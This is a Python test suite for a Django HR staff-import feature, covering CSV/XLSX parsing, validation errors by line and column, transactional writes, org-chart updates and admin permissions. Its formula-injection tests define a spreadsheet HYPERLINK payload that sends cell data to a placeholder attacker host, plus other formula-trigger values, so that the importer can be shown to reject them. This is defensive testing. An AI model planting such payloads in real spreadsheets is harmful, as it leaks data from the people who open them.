"""HR staff import: parsing, validation by line and column, all-or-nothing, idempotence, command and admin."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import Workbook

from people import admin_views
from people import importing as imp
from people.models import OrgPath, StaffProfile
from people.selectors import team_of
from people.services import org_rebuild
from tests.factories import DepartmentFactory, PositionFactory, UserFactory

User = get_user_model()

EN = [
    "employee_number",
    "name",
    "email",
    "department",
    "position",
    "supervisor_employee_number",
    "hire_date",
    "active",
]
ZH_HANT = ["員工編號", "姓名", "電郵", "部門", "職位", "主管員工編號", "入職日期", "在職"]
ZH_HANS = ["员工编号", "姓名", "电邮", "部门", "职位", "主管员工编号", "入职日期", "在职"]

BOSS = ["E001", "李經理", "e001@bank.example", "D01", "P02", "", "2015-04-01", "1"]
AMY = ["E002", "陳美美", "e002@bank.example", "D01", "P01", "E001", "2020-01-06", "1"]
BEN = ["E003", "黃志明", "e003@bank.example", "客戶服務一組", "客戶服務主任", "E001", "2021/09/13", "是"]


@pytest.fixture
def org(db):
    """The managed lists the files refer to."""
    return {
        "d1": DepartmentFactory(code="D01", name="客戶服務一組"),
        "d2": DepartmentFactory(code="D02", name="客戶服務二組"),
        "p1": PositionFactory(code="P01", name="客戶服務主任"),
        "p2": PositionFactory(code="P02", name="客戶服務經理", is_supervisory=True),
    }


def csv_file(*rows: list[str], headers: list[str] = EN, bom: bool = False) -> bytes:
    lines = [",".join(headers), *(",".join(row) for row in rows)]
    return (("\ufeff" if bom else "") + "\r\n".join(lines) + "\r\n").encode("utf-8")


def xlsx_file(*rows: list, headers: list[str] = EN) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def run(content: bytes, filename: str = "staff.csv", *, dry_run: bool = False) -> imp.ImportResult:
    return imp.staff_import(imp.parse_staff_file(io.BytesIO(content), filename), dry_run=dry_run)


def issues(content: bytes, filename: str = "staff.csv") -> list[imp.ImportIssue]:
    with pytest.raises(imp.StaffImportError) as caught:
        run(content, filename)
    return caught.value.issues


def counts() -> tuple[int, int, int]:
    return User.objects.count(), StaffProfile.objects.count(), OrgPath.objects.count()


def writes(queries: CaptureQueriesContext) -> list[str]:
    return [
        q["sql"]
        for q in queries.captured_queries
        if q["sql"].lstrip().upper().startswith(("INSERT", "UPDATE", "DELETE"))
    ]


def row_with(base: list[str], **changes: str) -> list[str]:
    row = list(base)
    for key, value in changes.items():
        row[EN.index(key)] = value
    return row


# --- Happy paths ----------------------------------------------------------------------------------------


def test_csv_creates_users_profiles_and_org_chart(org):
    result = run(csv_file(BOSS, AMY, BEN))

    assert (result.created, result.updated, result.unchanged, result.deactivated) == (3, 0, 0, 0)
    boss = StaffProfile.objects.select_related("user").get(employee_number="E001")
    assert boss.user.username == "e001"
    assert boss.user.email == "e001@bank.example"
    assert not boss.user.has_usable_password()
    assert boss.department == org["d1"] and boss.position == org["p2"]
    ben = StaffProfile.objects.get(employee_number="E003")
    assert ben.hire_date == datetime.date(2021, 9, 13)
    assert ben.supervisor == boss and ben.is_active
    assert set(team_of(boss).values_list("employee_number", flat=True)) == {"E002", "E003"}


def test_reports_before_supervisor_in_file_still_import(org):
    run(csv_file(AMY, BEN, BOSS))

    boss = StaffProfile.objects.get(employee_number="E001")
    assert set(team_of(boss).values_list("employee_number", flat=True)) == {"E002", "E003"}


def test_xlsx_with_real_dates_numbers_and_booleans(org):
    content = xlsx_file(
        [1001, "李經理", "boss@bank.example", "D01", "P02", None, datetime.datetime(2015, 4, 1), 1],
        [1002, "陳美美", "amy@bank.example", "D02", "P01", 1001, datetime.date(2020, 1, 6), True],
        [1003, "黃志明", "ben@bank.example", "D02", "P01", 1001, 45000, False],
    )

    result = run(content, "staff.xlsx")

    assert result.created == 3
    amy = StaffProfile.objects.get(employee_number="1002")
    assert amy.hire_date == datetime.date(2020, 1, 6)
    assert amy.supervisor.employee_number == "1001"
    ben = StaffProfile.objects.select_related("user").get(employee_number="1003")
    assert ben.hire_date == datetime.date(2023, 3, 15)  # Excel serial 45000
    assert not ben.is_active and not ben.user.is_active


@pytest.mark.parametrize("headers", [ZH_HANT, ZH_HANS], ids=["traditional", "simplified"])
def test_chinese_headers_csv_with_bom(org, headers):
    result = run(csv_file(BOSS, AMY, headers=headers, bom=True))

    assert result.created == 2


def test_chinese_headers_xlsx_and_error_names_the_chinese_column(org):
    content = xlsx_file(
        ["E001", "李經理", "e001@bank.example", "D09", "P02", None, "2015-04-01", "在職"], headers=ZH_HANT
    )

    [issue] = issues(content, "staff.xlsx")

    assert (issue.line, issue.column) == (2, "部門")
    assert str(issue) == str(
        imp.MSG_LINE_COLUMN
        % {"line": 2, "column": "部門", "message": imp.ERR_UNKNOWN_DEPARTMENT % {"value": "D09"}}
    )


def test_username_column_overrides_the_default(org):
    content = csv_file([*BOSS, "li.manager"], headers=[*EN, "username"])

    run(content)

    assert StaffProfile.objects.get(employee_number="E001").user.username == "li.manager"


def test_extra_columns_and_blank_lines_are_ignored_but_line_numbers_stay(org):
    text = (
        "note,"
        + ",".join(EN)
        + "\r\n\r\nx,"
        + ",".join(BOSS)
        + "\r\nx,"
        + ",".join(row_with(AMY, department="Z"))
    )
    [issue] = issues(text.encode())

    assert issue.line == 4


# --- Validation: each kind of error names its line and column --------------------------------------------


@pytest.mark.parametrize(
    ("bad_row", "column", "message"),
    [
        (row_with(AMY, name=""), "name", imp.ERR_REQUIRED),
        (row_with(AMY, email="not-an-email"), "email", imp.ERR_EMAIL_INVALID % {"value": "not-an-email"}),
        (row_with(AMY, email=""), "email", imp.ERR_REQUIRED),
        (row_with(AMY, department="D99"), "department", imp.ERR_UNKNOWN_DEPARTMENT % {"value": "D99"}),
        (row_with(AMY, position="清潔"), "position", imp.ERR_UNKNOWN_POSITION % {"value": "清潔"}),
        (row_with(AMY, hire_date="06/01/2020"), "hire_date", imp.ERR_DATE_INVALID % {"value": "06/01/2020"}),
        (row_with(AMY, hire_date="2099-01-01"), "hire_date", imp.ERR_DATE_FUTURE % {"value": "2099-01-01"}),
        (row_with(AMY, hire_date=""), "hire_date", imp.ERR_REQUIRED),
        (row_with(AMY, active="maybe"), "active", imp.ERR_ACTIVE_INVALID % {"value": "maybe"}),
        (row_with(AMY, active=""), "active", imp.ERR_REQUIRED),
        (
            row_with(AMY, supervisor_employee_number="E404"),
            "supervisor_employee_number",
            imp.ERR_SUPERVISOR_UNKNOWN % {"value": "E404"},
        ),
        (
            row_with(AMY, supervisor_employee_number="E002"),
            "supervisor_employee_number",
            imp.ERR_SUPERVISOR_SELF,
        ),
        (row_with(AMY, name="名" * 101), "name", imp.ERR_TOO_LONG % {"value": "名" * 101, "max": 100}),
        (
            row_with(AMY, employee_number="E 002"),
            "employee_number",
            imp.ERR_USERNAME_INVALID % {"value": "e 002"},
        ),
    ],
)
def test_each_error_names_line_and_column_and_writes_nothing(org, bad_row, column, message):
    before = counts()

    found = issues(csv_file(BOSS, bad_row))

    assert [(i.line, i.column, i.message) for i in found] == [(3, column, str(message))]
    assert counts() == before


def test_duplicate_employee_number_and_email_name_both_lines(org):
    found = issues(csv_file(BOSS, AMY, row_with(BEN, employee_number="E002", email="E002@bank.example")))

    assert [(i.line, i.column, i.message) for i in found] == [
        (4, "employee_number", str(imp.ERR_DUPLICATE_EMPLOYEE % {"value": "E002", "other": 3})),
        (4, "email", str(imp.ERR_DUPLICATE_EMAIL % {"value": "E002@bank.example", "other": 3})),
    ]


def test_email_and_username_of_other_logins_are_refused(org):
    UserFactory(username="e002", email="someone@bank.example")

    found = issues(csv_file(BOSS, row_with(AMY, email="SOMEONE@bank.example")))

    assert [(i.line, i.column, i.message) for i in found] == [
        (3, "email", str(imp.ERR_EMAIL_TAKEN % {"value": "SOMEONE@bank.example", "username": "e002"})),
        (3, "employee_number", str(imp.ERR_USERNAME_TAKEN % {"value": "e002"})),
    ]


def test_inactive_department_and_inactive_supervisor_are_refused(org):
    DepartmentFactory(code="D09", name="已撤銷組", is_active=False)

    found = issues(csv_file(row_with(BOSS, active="0"), row_with(AMY, department="D09")))

    assert [(i.line, i.column, i.message) for i in found] == [
        (3, "department", str(imp.ERR_INACTIVE_DEPARTMENT % {"value": "D09"})),
        (3, "supervisor_employee_number", str(imp.ERR_SUPERVISOR_INACTIVE % {"value": "E001"})),
    ]


def test_every_error_in_the_file_is_reported(org):
    found = issues(
        csv_file(
            row_with(BOSS, email="bad"),
            row_with(AMY, department="X", hire_date="soon"),
            row_with(BEN, active="?"),
        )
    )

    assert [(i.line, i.column) for i in found] == [
        (2, "email"),
        (3, "department"),
        (3, "hire_date"),
        (4, "active"),
    ]


@pytest.mark.parametrize(
    ("content", "filename", "message"),
    [
        (b"", "staff.csv", imp.ERR_EMPTY_FILE),
        (csv_file(), "staff.csv", imp.ERR_NO_ROWS),
        ("員工編號,姓名\r\nE001,李經理\r\n".encode("big5"), "staff.csv", imp.ERR_ENCODING),
        (b"PK\x03\x04 not really", "staff.xlsx", imp.ERR_XLSX_INVALID),
        (b"whatever", "staff.xls", imp.ERR_FILE_TYPE),
    ],
)
def test_unreadable_files(db, content, filename, message):
    assert [(i.line, i.message) for i in issues(content, filename)] == [(None, str(message))]


def test_missing_columns_are_each_named(org):
    headers = [h for h in EN if h not in {"department", "hire_date"}]
    found = issues(csv_file(["E001", "李經理", "e@bank.example", "P02", "", "1"], headers=headers))

    assert [i.message for i in found] == [
        str(imp.ERR_MISSING_COLUMN % {"column": "department", "aliases": "department / 部門 / 部门"}),
        str(imp.ERR_MISSING_COLUMN % {"column": "hire_date", "aliases": "hire_date / 入職日期 / 入职日期"}),
    ]


def test_duplicate_column(org):
    found = issues(csv_file(["E001", *BOSS], headers=["員工編號", *EN]))

    assert [i.message for i in found] == [str(imp.ERR_DUPLICATE_COLUMN % {"column": "employee_number"})]


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        *[(word, True) for word in ("1", "Y", "yes", "TRUE", "是", "在職", "在职")],
        *[(word, False) for word in ("0", "n", "No", "false", "否", "離職", "离职")],
    ],
)
def test_active_words(org, word, expected):
    run(csv_file(row_with(BOSS, active=word)))

    assert StaffProfile.objects.get(employee_number="E001").is_active is expected


# --- All or nothing, idempotence ------------------------------------------------------------------------


def good_rows(n: int) -> list[list[str]]:
    rows = [BOSS]
    for i in range(2, n + 1):
        rows.append(
            [f"E{i:03d}", f"員工{i}", f"e{i:03d}@bank.example", "D01", "P01", "E001", "2022-02-01", "1"]
        )
    return rows


def test_one_bad_row_among_ten_good_writes_nothing(org, make_staff):
    make_staff("existing", employee_number="E900")
    before = counts()
    rows = good_rows(10)
    rows.insert(6, row_with(AMY, employee_number="E050", email="e050@bank.example", position="?"))

    found = issues(csv_file(*rows))

    assert [(i.line, i.column) for i in found] == [(8, "position")]
    assert counts() == before


def test_second_run_of_the_same_file_changes_nothing_and_writes_nothing(org):
    content = csv_file(*good_rows(10))
    first = run(content)
    stamps = dict(StaffProfile.objects.values_list("employee_number", "updated_at"))

    with CaptureQueriesContext(connection) as queries:
        second = run(content)

    assert first.created == 10
    assert (second.created, second.updated, second.deactivated, second.unchanged) == (0, 0, 0, 10)
    assert writes(queries) == []
    assert dict(StaffProfile.objects.values_list("employee_number", "updated_at")) == stamps


def test_dry_run_reports_changes_and_writes_nothing(org):
    before = counts()

    with CaptureQueriesContext(connection) as queries:
        result = run(csv_file(BOSS, AMY), dry_run=True)

    assert (result.dry_run, result.created) == (True, 2)
    assert writes(queries) == []
    assert counts() == before


def test_update_lists_changes_and_leaves_others_alone(org, make_staff):
    boss = make_staff(
        "e001", employee_number="E001", display_name="李經理", department=org["d1"], position=org["p2"]
    )
    bystander = make_staff("bystander", employee_number="E777", supervisor=boss)
    stamp = bystander.updated_at

    result = run(csv_file(row_with(BOSS, name="李大經理", department="D02")))

    [row] = result.rows
    assert row.action == imp.UPDATED
    assert {(c.field, c.old, c.new) for c in row.changes} >= {
        ("name", "李經理", "李大經理"),
        ("department", "客戶服務一組", "客戶服務二組"),
    }
    boss.refresh_from_db()
    assert (boss.display_name, boss.department) == ("李大經理", org["d2"])
    bystander.refresh_from_db()
    assert bystander.updated_at == stamp and bystander.supervisor == boss


def test_deactivation_uses_staff_set_active(org):
    run(csv_file(BOSS, AMY))

    result = run(csv_file(BOSS, row_with(AMY, active="離職")))

    assert (result.deactivated, result.unchanged) == (1, 1)
    amy = StaffProfile.objects.select_related("user").get(employee_number="E002")
    assert not amy.is_active and not amy.user.is_active


# --- Supervisors and the closure table ------------------------------------------------------------------


def test_cycle_in_the_file_is_reported_on_every_line(org):
    found = issues(csv_file(row_with(BOSS, supervisor_employee_number="E002"), AMY))

    cycle_messages = {(i.line, i.column, i.message) for i in found}
    assert cycle_messages == {
        (2, "supervisor_employee_number", str(imp.ERR_SUPERVISOR_CYCLE % {"cycle": "E001 → E002 → E001"})),
        (3, "supervisor_employee_number", str(imp.ERR_SUPERVISOR_CYCLE % {"cycle": "E001 → E002 → E001"})),
    }


def test_cycle_through_a_person_not_in_the_file(org, make_staff):
    top = make_staff("top", employee_number="E100")
    make_staff("mid", employee_number="E200", supervisor=top)
    before = counts()
    # E100 (top) now reports to new E300, who reports to E200 (in the database, reports to E100).
    content = csv_file(
        ["E100", "頂", "top@bank.example", "D01", "P02", "E300", "2015-01-01", "1"],
        ["E300", "新", "new@bank.example", "D01", "P02", "E200", "2024-01-01", "1"],
    )

    found = issues(content)

    assert [(i.line, i.column) for i in found] == [
        (2, "supervisor_employee_number"),
        (3, "supervisor_employee_number"),
    ]
    assert all("E200" in i.message for i in found)
    assert counts() == before


def test_moving_a_supervisor_rehangs_the_subtree(org, make_staff):
    old_boss = make_staff("old", employee_number="B001")
    new_boss = make_staff("new", employee_number="B002")
    mid = make_staff(
        "mid", employee_number="M001", supervisor=old_boss, department=org["d1"], position=org["p2"]
    )
    leaf = make_staff("leaf", employee_number="L001", supervisor=mid)

    result = run(
        csv_file(
            [
                "M001",
                mid.display_name,
                mid.user.email,
                "D01",
                "P02",
                "B002",
                mid.hire_date.isoformat(),
                "1",
            ]
        )
    )

    assert result.updated == 1
    assert set(team_of(new_boss)) == {mid, leaf}
    assert list(team_of(old_boss)) == []
    assert list(leaf.ancestor_paths.order_by("depth").values_list("ancestor_id", flat=True)) == [
        leaf.pk,
        mid.pk,
        new_boss.pk,
    ]


def test_swapping_boss_and_report_in_one_file(org):
    run(csv_file(BOSS, AMY))

    run(
        csv_file(
            row_with(BOSS, supervisor_employee_number="E002"), row_with(AMY, supervisor_employee_number="")
        )
    )

    amy = StaffProfile.objects.get(employee_number="E002")
    assert list(team_of(amy).values_list("employee_number", flat=True)) == ["E001"]
    assert amy.supervisor is None


# --- Management command ---------------------------------------------------------------------------------


def test_command_imports_and_prints_a_summary(org, tmp_path):
    path = tmp_path / "staff.csv"
    path.write_bytes(csv_file(BOSS, AMY))
    out = io.StringIO()

    call_command("import_staff", str(path), stdout=out)

    assert StaffProfile.objects.count() == 2
    assert "2" in out.getvalue()


def test_command_dry_run_writes_nothing(org, tmp_path):
    path = tmp_path / "staff.xlsx"
    path.write_bytes(xlsx_file(BOSS, AMY))

    call_command("import_staff", str(path), "--dry-run", stdout=io.StringIO())

    assert StaffProfile.objects.count() == 0


def test_command_prints_errors_to_stderr_and_fails(org, tmp_path):
    path = tmp_path / "staff.csv"
    path.write_bytes(csv_file(BOSS, row_with(AMY, department="D99"), headers=ZH_HANT))
    err = io.StringIO()

    with pytest.raises(CommandError):
        call_command("import_staff", str(path), stdout=io.StringIO(), stderr=err)

    expected = imp.MSG_LINE_COLUMN % {
        "line": 3,
        "column": "部門",
        "message": imp.ERR_UNKNOWN_DEPARTMENT % {"value": "D99"},
    }
    assert err.getvalue().strip() == str(expected)
    assert StaffProfile.objects.count() == 0


def test_command_exit_code_is_non_zero(org, tmp_path):
    path = tmp_path / "staff.csv"
    path.write_bytes(csv_file(row_with(BOSS, email="nope")))
    from django.core.management import ManagementUtility

    with pytest.raises(SystemExit) as exited:
        ManagementUtility(["manage.py", "import_staff", str(path)]).execute()

    assert exited.value.code != 0


# --- Admin upload ---------------------------------------------------------------------------------------

URL = "/admin/people/import/"


def upload(client, content: bytes, name: str = "staff.csv"):
    file = io.BytesIO(content)
    file.name = name
    return client.post(URL, {"file": file})


def test_admin_preview_writes_nothing_then_confirm_applies(org, superuser, login):
    client = login(superuser)
    before = counts()

    response = upload(client, csv_file(BOSS, AMY))

    assert response.status_code == 200
    assert counts() == before
    token = response.context["token"]
    assert response.context["result"].created == 2
    assert "陳美美" in response.content.decode()

    response = client.post(URL, {"token": token})

    assert response.status_code == 302
    assert StaffProfile.objects.count() == 2
    # The token is single-use.
    client.post(URL, {"token": token})
    assert StaffProfile.objects.count() == 2


def test_admin_shows_errors_by_line_and_column(org, superuser, login):
    client = login(superuser)

    response = upload(client, xlsx_file(BOSS, row_with(AMY, email="x"), headers=ZH_HANT), "staff.xlsx")

    assert response.status_code == 200
    assert [(i.line, i.column) for i in response.context["issues"]] == [(3, "電郵")]
    assert str(imp.ERR_EMAIL_INVALID % {"value": "x"}) in response.content.decode()
    assert "token" not in response.context
    assert StaffProfile.objects.count() == 0


def test_admin_refuses_too_large_file(org, superuser, login):
    client = login(superuser)

    response = upload(client, b"a" * (admin_views.MAX_UPLOAD_BYTES + 1))

    assert response.status_code == 200
    assert response.context["form"].errors["file"] == [str(admin_views.ERR_TOO_LARGE % {"max": 5})]
    assert admin_views.SESSION_KEY not in client.session


def test_admin_refuses_users_without_the_permission(org, login):
    editor = UserFactory(username="editor", groups=["Staff", "Content editor"])  # admin access, no import
    client = login(editor)
    home = reverse("wagtailadmin_home")

    # Wagtail's admin turns PermissionDenied into a redirect to the dashboard with a message.
    for response in (
        client.get(URL),
        upload(client, csv_file(BOSS)),
        client.get(reverse("people_import_staff_template")),
    ):
        assert (response.status_code, response["Location"]) == (302, home)
    assert StaffProfile.objects.count() == 0


def test_admin_allows_a_training_admin_with_the_permission(org, login):
    hr = UserFactory(username="hr", groups=["Staff", "Training admin"])

    response = login(hr).get(URL)

    assert response.status_code == 200
    assert reverse("people_import_staff_template") in response.content.decode()


def test_login_wall_stays_on(client, db):
    response = client.get(URL)

    assert response.status_code == 302
    assert StaffProfile.objects.count() == 0


def test_template_csv_has_chinese_headers_and_imports_cleanly(org, superuser, login):
    response = login(superuser).get(reverse("people_import_staff_template"))

    assert response["Content-Type"].startswith("text/csv")
    text = response.getvalue().decode("utf-8-sig")
    assert text.splitlines() == [",".join(ZH_HANT)]
    filled = (text + ",".join(BOSS) + "\r\n").encode("utf-8-sig")
    assert run(filled).created == 1


def test_menu_item_only_for_people_who_may_import(org, superuser, login, client):
    assert URL in login(superuser).get(reverse("wagtailadmin_home")).content.decode()

    editor = UserFactory(username="editor", groups=["Staff", "Content editor"])  # admin access, no import
    client.force_login(editor)
    assert URL not in client.get(reverse("wagtailadmin_home")).content.decode()


def test_checking_a_file_takes_the_same_queries_for_3_or_30_people(org):
    small, large = csv_file(*good_rows(3)), csv_file(*good_rows(30))
    run(large)

    with CaptureQueriesContext(connection) as small_queries:
        run(small, dry_run=True)
    with CaptureQueriesContext(connection) as large_queries:
        run(large, dry_run=True)

    assert len(small_queries) == len(large_queries) <= 6


def test_preview_lists_the_values_of_new_people(org):
    [row] = run(csv_file(row_with(AMY, supervisor_employee_number="")), dry_run=True).rows

    assert (row.action, row.employee_number) == (imp.CREATED, "E002")
    assert ("department", "", "客戶服務一組") in {(c.field, c.old, c.new) for c in row.changes}


# --- #9 items 8 and 9: formulas are errors by row and column; validation holds no write lock; the writes
# are a few bulk statements in one short transaction, with the org chart right.

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"點我")'


def quoted_csv(*rows: list[str]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([EN, *rows])
    return buffer.getvalue().encode("utf-8")


@pytest.mark.parametrize("value", [EVIL, "+85212345678", "-1", "@SUM(A1)", "\t=1+1", "  =1+1"])
def test_a_formula_in_a_cell_is_an_error_naming_row_and_column(org, value):
    found = issues(quoted_csv(BOSS, row_with(AMY, supervisor_employee_number=value)))
    assert [(i.line, i.column) for i in found] == [(3, "supervisor_employee_number")]
    assert "公式" in found[0].message
    assert StaffProfile.objects.count() == 0


def test_a_formula_in_a_name_is_refused_not_imported(org):
    [issue] = issues(quoted_csv(row_with(BOSS, name=EVIL)))
    assert (issue.line, issue.column) == (2, "name")
    assert str(imp.ERR_REQUIRED) not in issue.message


def test_an_xlsx_formula_cell_is_an_error_not_an_empty_supervisor(org):
    """openpyxl (like any program) writes formula cells without a cached result: read as values they are
    empty, which used to mean "no supervisor" and silently detached the person."""
    content = xlsx_file(BOSS, row_with(AMY, supervisor_employee_number='=IF(TRUE,"E001","")'))
    [issue] = issues(content, "staff.xlsx")
    assert (issue.line, issue.column) == (3, "supervisor_employee_number")
    assert "公式" in issue.message


def people(n: int, *, start: int = 1) -> list[list[str]]:
    """A tree three levels deep, every supervisor listed after some of their reports."""
    rows = []
    for i in range(start, start + n):
        supervisor = "" if i == 1 else f"E{(i // 3) or 1:04d}" if i > 3 else "E0001"
        rows.append(
            [f"E{i:04d}", f"員工{i}", f"e{i:04d}@bank.example", "D01", "P01", supervisor, "2022-02-01", "1"]
        )
    return list(reversed(rows))


def test_validation_reads_before_the_write_transaction_which_is_a_few_statements(org):
    with CaptureQueriesContext(connection) as small:
        run(csv_file(*people(30)))
    with CaptureQueriesContext(connection) as large:
        run(csv_file(*people(300, start=31)))

    def inside(queries) -> list[str]:
        sql = [q["sql"] for q in queries.captured_queries]
        begin = next(i for i, s in enumerate(sql) if s.startswith("SAVEPOINT"))
        assert not [s for s in sql[:begin] if s.lstrip().upper().startswith(("INSERT", "UPDATE", "DELETE"))]
        return sql[begin:]

    # The transaction does not grow with the file: bulk statements, not a save per person.
    assert len(inside(large)) <= len(inside(small)) + 12 <= 60


def test_bulk_writes_build_the_same_org_chart_as_saving_one_by_one(org):
    run(csv_file(*people(40)))
    # Move a subtree, deactivate a leaf, rename someone, add people under new and old supervisors.
    rows = people(40)
    changed = []
    for row in rows:
        if row[0] == "E0004":
            row = row_with(row, supervisor_employee_number="E0002")
        if row[0] == "E0039":
            row = row_with(row, active="0")
        if row[0] == "E0010":
            row = row_with(row, name="改名者")
        changed.append(row)
    changed += [
        ["E0100", "新主管", "e0100@bank.example", "D02", "P02", "E0003", "2024-01-01", "1"],
        ["E0101", "新同事", "e0101@bank.example", "D01", "P01", "E0100", "2024-01-01", "1"],
    ]
    result = run(csv_file(*reversed(changed)))
    assert (result.created, result.deactivated) == (2, 1)
    assert StaffProfile.objects.get(employee_number="E0010").display_name == "改名者"
    assert StaffProfile.objects.get(employee_number="E0039").user.is_active is False
    closure = set(OrgPath.objects.values_list("ancestor_id", "descendant_id", "depth"))
    org_rebuild()
    assert closure == set(OrgPath.objects.values_list("ancestor_id", "descendant_id", "depth"))
    assert run(csv_file(*reversed(changed))).changed_rows == []  # idempotent


# --- Edges found by mutation testing ---


def test_every_unknown_or_inactive_supervisor_in_the_file_is_reported(org):
    """An unknown supervisor on one line does not stop the supervisor checks of the lines after it."""
    found = issues(
        csv_file(
            row_with(BOSS, active="0"),
            row_with(AMY, supervisor_employee_number="E404"),
            row_with(BEN, supervisor_employee_number="E405"),
            row_with(BEN, employee_number="E004", email="e004@bank.example"),
        )
    )

    assert [(i.line, i.column, i.message) for i in found] == [
        (3, "supervisor_employee_number", str(imp.ERR_SUPERVISOR_UNKNOWN % {"value": "E404"})),
        (4, "supervisor_employee_number", str(imp.ERR_SUPERVISOR_UNKNOWN % {"value": "E405"})),
        (5, "supervisor_employee_number", str(imp.ERR_SUPERVISOR_INACTIVE % {"value": "E001"})),
    ]
